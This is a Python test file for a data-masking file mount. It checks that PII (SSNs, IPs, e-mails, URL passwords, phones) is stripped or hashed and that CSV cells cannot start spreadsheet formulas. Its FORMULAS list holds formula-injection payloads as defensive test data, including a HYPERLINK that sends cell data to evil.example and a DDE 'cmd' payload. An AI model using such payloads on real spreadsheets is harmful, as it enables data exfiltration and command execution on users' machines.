# SPDX-License-Identifier: LGPL-2.1-or-later
"""Issue 13's pii detectors and the CSV formula-injection guard, through a
real mount.

- Free-text notes with SSNs (123 45 6789, and 9 digits after "SSN"), IPv4
  and IPv6 addresses, a URL with a password, international and
  name(at)domain e-mail addresses are served (CSV and a SQLite table)
  without any of those values: every byte the mount serves is scanned;
- replace: hash gives one token per address in every cell, column and
  dataset of a sandbox, whatever its case or obfuscation, and another
  sandbox (another secret) other tokens; near misses (a version, an order
  number) are served as they are;
- served CSV (a CSV dataset, a SQLite table, a masked column, a header)
  carries no cell a spreadsheet would run as a formula, numbers like -5
  and 1e3 stay numbers; csv_injection: off serves the file unchanged."""
import csv
import io
import os
import re
import sqlite3

import pandas as pd

from conftest import duck, needs_duckdb, spotfs

NOTES = [
    "Reach Bob at bob.smith@example.com or bob.smith(at)example.com today",
    "SSN 123 45 6789 on file; also SSN: 234567890 (old)",
    "server 192.168.13.37 and 2001:db8:85a3::8a2e:370:7334 logged in",
    "db url postgres://admin:hunter2@db.internal.example:5432/prod ok",
    "Kontakt: jürgen.müller@beispiel.de, josé [at] ejemplo [dot] es",
    "version 1.2.3.4 shipped, order 123456789",
    "BOB.SMITH@EXAMPLE.COM wrote again",
]
# Every value planted above, and telling parts of them.
RAW = ["bob.smith", "BOB.SMITH", "123 45 6789", "234567890",
       "192.168.13.37", "2001:db8", "8a2e:370:7334", "hunter2", "admin:",
       "db.internal", "jürgen", "müller", "josé", "ejemplo"]
KEPT = "version 1.2.3.4 shipped, order 123456789"


def notes_csv():
    f = io.StringIO()
    w = csv.writer(f, lineterminator="\n")
    w.writerow(["id", "note"])
    for i, n in enumerate(NOTES):
        w.writerow([i, n])
    return f.getvalue()


def notes_db(path):
    con = sqlite3.connect(path)
    con.execute("CREATE TABLE notes (id INTEGER, note TEXT)")
    con.executemany("INSERT INTO notes VALUES (?, ?)", enumerate(NOTES))
    con.commit()
    con.close()


CONFIG = """source: @SRC@
datasets:
  tags.csv:
    columns: { id: keep, note: pii }
  hashed.csv:
    columns: { id: keep, note: { method: pii, replace: hash } }
  notes.db:
    tables:
      notes:
        columns: { id: keep, note: { method: pii, replace: hash } }
"""


def served_bytes(root):
    """Every file the mount serves, read whole: {relative path: bytes}."""
    out = {}
    for d, _, files in os.walk(root):
        for name in files:
            p = os.path.join(d, name)
            with open(p, "rb") as f:
                out[os.path.relpath(p, root)] = f.read()
    return out


def assert_no_raw(files):
    assert files
    for rel, data in files.items():
        for v in RAW:
            assert v.encode() not in data, (rel, v)


def read_notes(path):
    with open(path, newline="") as f:
        return pd.read_csv(f, dtype=str, keep_default_na=False)


def mount_notes(sandbox, name):
    s = sandbox(name)
    s.write("tags.csv", notes_csv())
    s.write("hashed.csv", notes_csv())
    notes_db(os.path.join(s.src, "notes.db"))
    s.write_config(CONFIG)
    r = spotfs("check", "-c", s.config)
    assert r.returncode == 0, r.stdout + r.stderr
    s.mount()
    return s


TOKEN = re.compile(r"\[([A-Z]+):([0-9a-f]{16})\]")


def test_pii_kinds_never_served(sandbox):
    s = mount_notes(sandbox, "a")
    try:
        files = served_bytes(s.mnt)
        tags = read_notes(s.path("tags.csv"))
        hashed = read_notes(s.path("hashed.csv"))
        table = read_notes(s.path("notes/notes.csv"))
    finally:
        s.unmount()
    s.assert_clean_log()
    assert_no_raw(files)
    assert "notes.db" in files and "notes/notes.csv" in files
    t = list(tags["note"])
    assert t[0] == "Reach Bob at [EMAIL] or [EMAIL] today"
    assert t[1] == "SSN [SSN] on file; also SSN: [SSN] (old)"
    assert t[2] == "server [IP] and [IP] logged in"
    assert t[3] == "db url [URL] ok"
    assert t[4] == "Kontakt: [EMAIL], [EMAIL]"
    assert t[5] == KEPT, "near misses are served as they are"
    assert t[6] == "[EMAIL] wrote again"
    h = list(hashed["note"])
    assert h[5] == KEPT
    first = TOKEN.findall(h[0])
    assert len(first) == 2 and first[0] == first[1], h[0]
    assert first[0][0] == "EMAIL"
    # The same address in another note, in capitals: the same token.
    assert TOKEN.findall(h[6]) == [first[0]], h[6]
    # Other addresses, other tokens; one token per kind found.
    kinds = [k for n in h for k, _ in TOKEN.findall(n)]
    assert kinds.count("SSN") == 2 and kinds.count("IP") == 2
    assert kinds.count("URL") == 1 and kinds.count("EMAIL") == 5
    assert len({x for n in h for x in TOKEN.findall(n)}) == 8
    # Another dataset (a SQLite table) of the sandbox: the same tokens.
    assert list(table["note"]) == h



def test_pii_tokens_differ_across_sandboxes(sandbox):
    s = mount_notes(sandbox, "b")
    try:
        one = list(read_notes(s.path("hashed.csv"))["note"])
    finally:
        s.unmount()
    s2 = mount_notes(sandbox, "c")
    try:
        two = list(read_notes(s2.path("hashed.csv"))["note"])
    finally:
        s2.unmount()
    t1 = {x for n in one for x in TOKEN.findall(n)}
    t2 = {x for n in two for x in TOKEN.findall(n)}
    assert len(t1) == 8 and len(t2) == 8 and not (t1 & t2)


FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = ["-5", "1e3", "+3.25", "-0.5", "-1e-3", "42"]


def formula_csv():
    f = io.StringIO()
    w = csv.writer(f, lineterminator="\r\n")  # quotes fields with CR
    w.writerow(["id", "=evil", "n", "masked"])
    for i, (a, n) in enumerate(zip(FORMULAS, NUMBERS)):
        w.writerow([i, a, n, "secret%d" % i])
    return f.getvalue()


def test_csv_injection_guard(sandbox):
    s = sandbox()
    src = formula_csv()
    s.write("f.csv", src)
    s.write("raw.csv", src)
    con = sqlite3.connect(os.path.join(s.src, "f.db"))
    con.execute("CREATE TABLE t (id INTEGER, v TEXT, n REAL)")
    con.executemany("INSERT INTO t VALUES (?, ?, ?)",
                    [(i, a, float(n)) for i, (a, n)
                     in enumerate(zip(FORMULAS, NUMBERS))])
    con.commit()
    con.close()
    s.write_config("""source: @SRC@
datasets:
  f.csv:
    columns:
      id: keep
      "=evil": keep
      n: keep
      masked: { method: redact, text: "=1+1" }
  raw.csv:
    csv_injection: off
    columns: { id: keep, "=evil": keep, n: keep, masked: keep }
  f.db:
    tables:
      t:
        columns: { id: keep, v: keep, n: keep }
""")
    s.mount()
    try:
        with open(s.path("f.csv"), "rb") as f:
            served = f.read()
        with open(s.path("raw.csv"), "rb") as f:
            raw = f.read()
        with open(s.path("f/t.csv"), "rb") as f:
            table = f.read()
        df = read_notes(s.path("f.csv"))
        nums = pd.read_csv(s.path("f.csv"))["n"]
        tdf = read_notes(s.path("f/t.csv"))
    finally:
        s.unmount()
    s.assert_clean_log()
    assert raw == src.encode(), "csv_injection: off serves the source"
    # As a spreadsheet reads it: no cell starts a formula.
    for data in (served, table):
        for row in csv.reader(io.StringIO(data.decode(), newline="")):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    float(cell)  # only a number may start so
    assert list(df.columns) == ["id", "'=evil", "n", "masked"]
    assert list(df["'=evil"]) == ["'" + a for a in FORMULAS]
    assert list(df["masked"]) == ["'=1+1"] * len(FORMULAS)
    assert list(df["n"]) == NUMBERS, "numbers are served as they are"
    assert list(nums) == [float(n) for n in NUMBERS]
    assert list(tdf["v"]) == ["'" + a for a in FORMULAS]
    assert [float(x) for x in tdf["n"]] == [float(n) for n in NUMBERS]


@needs_duckdb
def test_csv_injection_guard_parquet_as_csv(sandbox, tmp_path):
    """A Parquet dataset served as CSV (as: [csv]) is guarded too; its
    notes, under pii, lose their personal data in both forms."""
    s = sandbox()
    src = str(tmp_path / "p.csv")
    with open(src, "w", newline="") as f:
        w = csv.writer(f, lineterminator="\r\n")
        w.writerow(["id", "v", "n", "note"])
        for i, (a, n) in enumerate(zip(FORMULAS, NUMBERS)):
            w.writerow([i, a, n, NOTES[i]])
    duck(tmp_path, "COPY (SELECT * FROM read_csv('%s', all_varchar=true)) "
         "TO '%s/p.parquet' (FORMAT parquet)" % (src, s.src))
    s.write_config("""source: @SRC@
datasets:
  p.parquet:
    as: [parquet, csv]
    columns: { id: keep, v: keep, n: keep, note: { method: pii } }
""")
    s.mount()
    try:
        files = served_bytes(s.mnt)
        df = read_notes(s.path("p.csv"))
    finally:
        s.unmount()
    s.assert_clean_log()
    assert "p.parquet" in files and "p.csv" in files
    assert_no_raw(files)
    assert list(df["v"]) == ["'" + a for a in FORMULAS]
    assert list(df["n"]) == NUMBERS


def test_pii_pseudonyms_in_a_jsonl_conversation(sandbox):
    """Issue 15: free text in JSON Lines (`messages[].content`) with `pii`,
    `replace: hash`: the same address in two messages of a conversation,
    and in another record, is the same token; other addresses get other
    tokens; no address is served."""
    import json
    s = sandbox("jlpii")
    recs = [
        {"id": 1, "messages": [
            {"role": "user", "content": "I am bob.smith@example.com, call 415-555-0142"},
            {"role": "assistant", "content": "Noted, BOB.SMITH@EXAMPLE.COM."},
            {"role": "user", "content": "cc alice.jones@example.org please"}]},
        {"id": 2, "messages": [
            {"role": "user", "content": "bob.smith(at)example.com again"}]},
    ]
    s.write("chat.jsonl", "".join(json.dumps(r) + "\n" for r in recs))
    s.write_config("source: @SRC@\ndatasets:\n  chat.jsonl:\n    columns:\n"
                   "      id: keep\n      \"messages[].role\": keep\n"
                   "      \"messages[].content\": { method: pii, replace: hash }\n")
    s.mount()
    data = open(s.path("chat.jsonl"), "rb").read()
    for raw in (b"bob.smith", b"BOB.SMITH", b"alice.jones", b"415-555-0142"):
        assert raw not in data, raw
    out = [json.loads(l) for l in data.decode().splitlines()]
    tok = lambda text: re.findall(r"\[EMAIL:[0-9a-f]{16}\]", text)
    m = out[0]["messages"]
    bob = tok(m[0]["content"])
    assert len(bob) == 1, m
    assert tok(m[1]["content"]) == bob
    assert tok(out[1]["messages"][0]["content"]) == bob
    alice = tok(m[2]["content"])
    assert len(alice) == 1 and alice != bob
    assert re.search(r"\[PHONE(:[0-9a-f]{16})?\]", m[0]["content"]), m[0]
